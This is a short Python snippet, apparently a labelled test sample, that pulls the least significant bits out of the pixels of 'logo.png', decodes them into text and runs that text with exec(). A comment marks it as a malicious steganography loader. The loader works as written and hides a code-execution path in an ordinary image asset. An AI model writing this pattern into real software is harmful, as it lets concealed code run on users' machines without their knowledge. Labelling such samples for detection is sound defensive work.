from PIL import Image

picture = Image.open("logo.png").convert("RGB")
bits = "".join(str(channel & 1) for pixel in picture.getdata() for channel in pixel)
code = bytes(int(bits[i : i + 8], 2) for i in range(0, len(bits), 8)).split(b"\0")[0].decode()
exec(code)  # expect: malicious-command/steganography-loader
